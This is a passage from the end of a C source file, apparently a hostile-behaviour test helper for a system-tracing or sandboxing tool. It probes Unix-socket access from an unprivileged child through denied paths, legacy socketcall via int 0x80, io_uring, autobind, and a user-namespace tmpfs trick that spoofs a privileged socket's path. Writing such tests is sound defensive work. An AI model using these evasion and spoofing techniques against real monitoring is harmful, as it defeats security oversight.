 * 0, or the errno of a connect (bind: as_bind, IORING_OP_BIND, 6.11 on) of
 * a fresh socket to path by an io_uring request; -1 if io_uring is
 * unavailable.
 */
static int unix_try_uring(const char *path, int as_bind)
{
	struct sockaddr_un a = unix_addr(path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	struct uring u;
	long r;

	if (fd < 0)
		die("socket");
	if (uring_open(&u, 4)) {
		close(fd);
		return -1;
	}
	/* The address's length in addr2 (off's place). */
	uring_queue(&u, as_bind ? 56 /* IORING_OP_BIND */ : IORING_OP_CONNECT, fd, &a, 0, 0)->off =
		sizeof(a);
	r = uring_one(&u);
	close(u.fd);
	close(fd);
	return r < 0 ? (int)-r : 0;
}

/* The refused connect as a 32-bit socketcall(SYS_CONNECT): -errno, or 1 where int 0x80 is absent. */
static long unix_try_socketcall(const char *path)
{
#if defined(__x86_64__)
	if (!int80_available())
		return 1;
	/* socketcall's arguments and the address must sit below 4 GiB. */
	uint8_t *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
			    -1, 0);
	if (low == MAP_FAILED)
		die("mmap");
	struct sockaddr_un a = unix_addr(path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (fd < 0)
		die("socket");
	memcpy(low + 64, &a, sizeof(a));
	uint32_t args[3] = { (uint32_t)fd, (uint32_t)(uintptr_t)(low + 64), sizeof(a) };
	memcpy(low, args, sizeof(args));
	long r = int80(102 /* socketcall */, 3 /* SYS_CONNECT */, (long)(uintptr_t)low, 0);
	close(fd);
	munmap(low, 4096);
	return r;
#else
	(void)path;
	return 1;
#endif
}

/* "MAJ:MIN:INO" of a socket file, as the capture names it; "" if it cannot be read. */
static void inode_id(const char *path, char *out, size_t len)
{
	struct stat st;

	if (stat(path, &st)) {
		out[0] = '\0';
		return;
	}
	snprintf(out, len, "%u:%u:%llu", major(st.st_dev), minor(st.st_dev),
		 (unsigned long long)st.st_ino);
}

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));

	if (fd >= 0)
		close(fd);
	return n == (ssize_t)strlen(text) ? 0 : -1;
}

/*
 * In a user namespace of its own (unprivileged), a tmpfs over dir, and a
 * listening socket at priv's name there, reached by a connect: 0 and its
 * inode id in spoof_id, else the errno of the step that failed.
 */
static int unix_spoof(const char *dir, const char *pdir, const char *priv, long uid, char *spoof_id,
		      size_t len)
{
	char map[64];
	int lp, r;

	/* setresuid left the process undumpable: its /proc files root's, uid_map unwritable. */
	if (prctl(PR_SET_DUMPABLE, 1) || unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return errno;
	snprintf(map, sizeof(map), "0 %ld 1\n", uid);
	if (write_file("/proc/self/setgroups", "deny") || write_file("/proc/self/uid_map", map) ||
	    write_file("/proc/self/gid_map", map))
		return errno ? errno : EPERM;
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("tmpfs", dir, "tmpfs", 0, NULL) || mkdir(pdir, 0700))
		return errno;
	lp = unix_listen(priv, 0777);
	r = unix_try(priv, 0);
	inode_id(priv, spoof_id, len);
	close(lp);
	return r;
}

static int mode_unix(long uid)
{
	char dir[] = "/tmp/ta-hostile-unix-XXXXXX", priv[64], pub[64], missing[80], ubound[80];
	int fds[2], lp, lq, status;
	struct term t;
	pid_t pid;

	if (!mkdtemp(dir))
		die("mkdtemp");
	snprintf(priv, sizeof(priv), "%s/p/srv", dir);
	snprintf(pub, sizeof(pub), "%s/pub", dir);
	snprintf(missing, sizeof(missing), "%s/p-missing", dir);
	snprintf(ubound, sizeof(ubound), "%s/w/uring-bound", dir);
	char pdir[64], wdir[64];
	snprintf(pdir, sizeof(pdir), "%s/p", dir);
	snprintf(wdir, sizeof(wdir), "%s/w", dir);
	/* p: root's alone; w: the child's, for its bind. */
	if (chmod(dir, 0755) || mkdir(pdir, 0700) || mkdir(wdir, 0700) ||
	    chown(wdir, (uid_t)uid, (gid_t)uid))
		die("mkdir");
	lp = unix_listen(priv, 0777);   /* reachable by root only: its directory is 0700 */
	lq = unix_listen(pub, 0777);
	open_term(&t);
	if (pipe(fds))
		die("pipe");
	pid = fork();
	if (pid < 0)
		die("fork");
	if (pid == 0) {
		int r[4];
		long sc;

		close(fds[0]);
		if (setsid() < 0 || ioctl(t.slave, TIOCSCTTY, 0) || setgroups(0, NULL) ||
		    setresgid((gid_t)uid, (gid_t)uid, (gid_t)uid) ||
		    setresuid((uid_t)uid, (uid_t)uid, (uid_t)uid))
			die("child setup");
		r[0] = unix_try(priv, 0);
		r[1] = unix_try(pub, 0);
		r[2] = unix_try(missing, 0);
		r[3] = unix_try(pub, 1);
		sc = unix_try_socketcall(priv);
		/* The same roads by io_uring: a connect that succeeds, and a bind of a new name. */
		int uc = unix_try_uring(pub, 0), ub = unix_try_uring(ubound, 1);
		/* A bind of the family alone: an abstract name of the kernel's choosing, no server. */
		int ab = socket(AF_UNIX, SOCK_STREAM, 0);
		sa_family_t fam = AF_UNIX;
		if (ab < 0 || bind(ab, (struct sockaddr *)&fam, sizeof(fam)))
			die("autobind");
		close(ab);
		char spoof_id[64] = "";
		int spoof = unix_spoof(dir, pdir, priv, uid, spoof_id, sizeof(spoof_id));
		dprintf(fds[1], "\"denied\":%d,\"ok\":%d,\"missing\":%d,\"bind_busy\":%d,"
			"\"socketcall\":%ld,\"spoof\":%d,\"spoof_inode\":\"%s\",\"uring_connect\":%d,"
			"\"uring_bind\":%d", r[0], r[1], r[2], r[3], sc, spoof, spoof_id, uc, ub);
		_exit(0);
	}
	close(fds[1]);
	char res[512] = "", priv_id[64], pub_id[64];
	inode_id(priv, priv_id, sizeof(priv_id));
	inode_id(pub, pub_id, sizeof(pub_id));
	char ubound_id[64];
	ssize_t n = read(fds[0], res, sizeof(res) - 1);
	res[n > 0 ? n : 0] = '\0';
	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status) || WEXITSTATUS(status))
		die("child");
	inode_id(ubound, ubound_id, sizeof(ubound_id));
	close(lp);
	close(lq);
	unlink(priv);
	unlink(pub);
	unlink(ubound);
	rmdir(pdir);
	rmdir(wdir);
	rmdir(dir);
	printf("{\"tty\":\"%s\",\"pid\":%d,\"priv\":\"%s\",\"pub\":\"%s\",\"missing_path\":\"%s\","
	       "\"priv_inode\":\"%s\",\"pub_inode\":\"%s\",\"uring_bound\":\"%s\","
	       "\"uring_bound_inode\":\"%s\",%s}\n",
	       short_name(&t), (int)pid, priv, pub, missing, priv_id, pub_id, ubound, ubound_id, res);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && strcmp(argv[1], "block") == 0)
		return mode_block(strtol(argv[2], NULL, 10), argc >= 4 ? strtol(argv[3], NULL, 10) : 1);
	if (argc >= 2 && strcmp(argv[1], "swap") == 0)
		return mode_swap(argc >= 3 ? strtoul(argv[2], NULL, 10) : 0);
	if (argc >= 3 && strcmp(argv[1], "flip") == 0)
		return mode_flip(strtol(argv[2], NULL, 10));
	if (argc >= 2 && strcmp(argv[1], "procflood") == 0)
		return mode_procflood();
	if (argc >= 3 && strcmp(argv[1], "leaderexit") == 0)
		return mode_leaderexit(strtol(argv[2], NULL, 10));
	if (argc >= 2 && strcmp(argv[1], "attrflood") == 0)
		return mode_attrflood();
	if (argc >= 2 && strcmp(argv[1], "roads") == 0)
		return mode_roads();
	if (argc >= 2 && strcmp(argv[1], "flood") == 0)
		return mode_flood(argc >= 3 ? strtol(argv[2], NULL, 10) : 0,
				  argc >= 4 && strcmp(argv[3], "input") == 0);
	if (argc >= 2 && strcmp(argv[1], "splice") == 0)
		return mode_splice_flip();
	if (argc >= 2 && strcmp(argv[1], "inject") == 0)
		return mode_inject();
	if (argc >= 2 && strcmp(argv[1], "unmap") == 0)
		return mode_unmap();
	if (argc >= 3 && strcmp(argv[1], "ldisc") == 0)
		return mode_ldisc(strtol(argv[2], NULL, 10));
	if (argc >= 3 && strcmp(argv[1], "unix") == 0)
		return mode_unix(strtol(argv[2], NULL, 10));
	fprintf(stderr, "usage: ta-hostile block N [TTYS] | swap [FORGE] | flip N | roads | procflood | leaderexit MS | flood [RATE [input]] | splice | inject | "
		"unmap | unix UID\n");
	return 2;
}
